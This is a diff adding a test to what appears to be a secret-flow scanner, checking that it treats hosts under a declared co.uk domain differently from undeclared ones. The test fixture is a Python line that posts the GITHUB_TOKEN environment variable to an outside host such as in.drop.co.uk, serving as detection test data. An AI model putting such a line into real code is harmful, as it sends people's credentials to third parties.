@@ -2477,4 +2477,15 @@ Deno.test("a key's own API is told by the domain a host was registered under, no
   for (const host of ["api.openai.com", "openai.com", "api.openai.co.uk"]) {
     assert.deepEqual(severity(host), ["info"], host);
   }
+  // A declared host under a country's `co.uk` covers its own domain, not every `.co.uk` one.
+  const declared = (host: string) =>
+    ruleAt(
+      findings({
+        "scripts/d.py":
+          `import os, requests\nrequests.post("https://${host}/x", data=os.environ["GITHUB_TOKEN"])\n`,
+      }, { hosts: ["api.example.co.uk"] }),
+      "secret-flow",
+    ).map((f) => f.severity);
+  assert.deepEqual(declared("uploads.example.co.uk"), ["info"]);
+  assert.deepEqual(declared("in.drop.co.uk"), ["critical"]);
 });
